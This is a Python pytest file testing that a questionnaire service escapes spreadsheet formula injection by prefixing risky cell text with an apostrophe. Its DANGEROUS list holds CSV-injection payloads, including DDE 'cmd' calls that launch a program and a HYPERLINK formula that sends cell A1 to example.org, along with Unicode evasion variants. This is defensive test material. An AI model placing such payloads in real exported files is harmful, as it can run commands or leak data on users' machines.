"""What a spreadsheet would take for a formula is made a plain text; everything else stays as it is."""

from decimal import Decimal

import pytest

from service.domain.table_cells import neutral, plain_number

# What was written into a questionnaire's free text -> the cell.
DANGEROUS = [
    "=1+1",
    '=HYPERLINK("http://example.org?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+86 20 1234",
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "＝1+1",
    "＋1",
    "－1+1",
    "＠SUM(1)",
    "|cmd",
    "%0A=1",
    "-",
    "=",
]
HARMLESS = [
    "",
    "很好",
    "5",
    "-5",
    "-0.25",
    "12.50",
    "a=b",
    "1+1",
    "2026-05-31",
    "High",
    "（=1）",
    "a b c",
    None,
    7,
    Decimal("-3.5"),
]


@pytest.mark.parametrize("text", DANGEROUS)
def test_what_looks_like_a_formula_gets_an_apostrophe_and_loses_nothing(text):
    assert neutral(text) == f"'{text}"


@pytest.mark.parametrize("cell", HARMLESS)
def test_what_does_not_stays_as_it_is(cell):
    assert neutral(cell) == cell


def test_a_quoted_text_is_quoted_again_so_that_it_can_be_given_back():
    assert neutral("'=1+1") == "''=1+1"
    assert neutral("'tis fine") == "''tis fine"
    given_back = {neutral(text)[1:] for text in DANGEROUS}
    assert given_back == set(DANGEROUS)


@pytest.mark.parametrize(
    ("text", "cell"), [("5", Decimal(5)), ("-0.5", Decimal("-0.5")), ("_cannot_say", "_cannot_say")]
)
def test_a_number_is_a_number(text, cell):
    assert plain_number(text) == cell
    assert type(plain_number(text)) is type(cell)
